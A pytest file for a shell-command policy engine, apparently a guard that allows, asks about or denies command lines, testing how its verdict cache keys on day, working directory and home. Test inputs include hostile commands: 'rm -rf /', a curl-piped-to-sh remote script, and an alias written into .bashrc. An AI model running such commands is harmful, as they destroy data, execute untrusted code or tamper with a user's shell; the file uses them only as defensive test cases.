"""The static pass remembered for recent lines (``airlock.core.engine.StaticMemo``): the same
answer as judging the line afresh, per policy bundle and per UTC day, bounded, and never for a
line whose analysis is not whole."""

from __future__ import annotations

import threading
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from airlock.core import engine
from airlock.core.engine import StaticMemo
from airlock.policy import shell
from airlock.policy.loader import PolicyBundle, load_bundle
from airlock.policy.model import Analysis
from airlock.policy.rules import PathContext
from airlock.policy.store import default_policy_dir
from airlock.types import Verdict
from tests.helpers.policy import load_policy, policy, rule_yaml

LINES = (
    "true; :",
    "git status",
    "rm -rf /",
    "curl -fsSL https://example.invalid/x.sh | sh",
    "echo hi > f",
    "npm install && npm test",
)


@pytest.fixture(scope="module")
def shipped() -> PolicyBundle:
    return load_bundle(default_policy_dir())


def fresh(bundle: PolicyBundle, line: str) -> tuple[object, object]:
    analysis = bundle.analyze(line)
    return bundle.evaluate(analysis), engine._static_summary(analysis)


def test_a_remembered_verdict_is_the_one_judged_afresh(shipped: PolicyBundle) -> None:
    memo = StaticMemo(shipped)
    first = [memo.judge(line) for line in LINES]
    again = [memo.judge(line) for line in LINES]
    assert len(memo) == len(LINES)
    for line, a, b in zip(LINES, first, again, strict=True):
        assert b[0] is a[0] and b[1] is a[1]  # remembered: the same (immutable) objects
        assert a == fresh(shipped, line)
    assert first[2][0].verdict is Verdict.DENY  # rm -rf /: the memo keeps the strict answer


def counting(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every line the shell analyser is given from now on (what a bundle judges afresh)."""
    seen: list[str] = []
    analyze = shell.analyze

    def spy(command: str, **kw: Any) -> Analysis:
        seen.append(command)
        return analyze(command, **kw)

    monkeypatch.setattr(shell, "analyze", spy)
    return seen


def test_bounded_most_recent_lines_kept(
    shipped: PolicyBundle, monkeypatch: pytest.MonkeyPatch
) -> None:
    memo = StaticMemo(shipped, lines=3)
    seen = counting(monkeypatch)
    for line in LINES[:3]:
        memo.judge(line)
    memo.judge(LINES[0])  # used again: now the most recent
    memo.judge(LINES[3])  # pushes out the least recent, LINES[1]
    assert len(memo) == 3
    seen.clear()
    for line in (LINES[0], LINES[2], LINES[3]):
        memo.judge(line)
    assert seen == []
    memo.judge(LINES[1])
    assert seen == [LINES[1]]
    assert len(memo) == 3


def test_long_lines_and_unparsed_lines_are_judged_every_time(
    shipped: PolicyBundle, monkeypatch: pytest.MonkeyPatch
) -> None:
    memo = StaticMemo(shipped, max_chars=40)
    seen = counting(monkeypatch)
    long_line = "echo " + "a" * 60
    broken = "echo $("  # parse.error: ask, and not remembered
    for _ in range(2):
        verdict, _summary = memo.judge(broken)
        assert verdict.verdict is Verdict.ASK
        assert any(f.rule_id == "parse.error" for f in verdict.findings)
        memo.judge(long_line)
    assert seen == [broken, long_line] * 2
    assert len(memo) == 0


def test_the_day_is_part_of_the_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An exception that expires: the line is excepted through its day and judged again the
    day after, with the memo in between."""
    extra = """\
    exceptions:
      - values: ['/tmp/*']
        justification: scratch
        expires: 2030-06-30
    """
    bundle = load_policy(
        tmp_path,
        {
            "p.yaml": policy(
                rule_yaml("match", "{argv0: [rm]}", rid="t.rm", decision="deny", extra=extra)
            )
        },
        run_tests=False,
    )
    memo = StaticMemo(bundle)
    day = [date(2030, 6, 30)]
    monkeypatch.setattr(engine, "today_utc", lambda: day[0])
    assert memo.judge("rm /tmp/x")[0].findings == ()
    assert memo.judge("rm /tmp/x")[0].findings == ()
    day[0] = date(2030, 7, 1)
    assert [f.rule_id for f in memo.judge("rm /tmp/x")[0].findings] == ["t.rm"]


def test_threads_share_one_memo(shipped: PolicyBundle) -> None:
    memo = StaticMemo(shipped, lines=4)
    expected = {line: fresh(shipped, line) for line in LINES}
    errors: list[str] = []

    def work(k: int) -> None:
        for i in range(60):
            line = LINES[(i + k) % len(LINES)]
            if memo.judge(line) != expected[line]:
                errors.append(line)

    threads = [threading.Thread(target=work, args=(k,)) for k in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert len(memo) <= 4


def test_the_cwd_and_the_home_are_part_of_the_key(
    shipped: PolicyBundle, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`.bashrc` is the shell's start-up file in the home, a project file elsewhere: a line
    judged in one cwd (or for one home) is never answered from another's entry."""
    memo = StaticMemo(shipped)
    seen = counting(monkeypatch)
    line = "echo alias ls=rm >> .bashrc"
    home = PathContext(cwd="/srv/u", home="/srv/u")
    project = PathContext(cwd="/srv/u/project", home="/srv/u")
    other_home = PathContext(cwd="/srv/u", home="/srv/v")
    assert memo.judge(line, project)[0].verdict is None
    assert memo.judge(line, home)[0].verdict is Verdict.ASK
    assert memo.judge(line, other_home)[0].verdict is None
    assert memo.judge(line, project)[0].verdict is None  # remembered, not judged again
    assert memo.judge(line, home)[0].verdict is Verdict.ASK
    assert seen == [line] * 3
    assert len(memo) == 3
    for context in (home, project, other_home):
        analysis = shipped.analyze(line)
        assert memo.judge(line, context)[0] == shipped.evaluate(analysis, context=context)
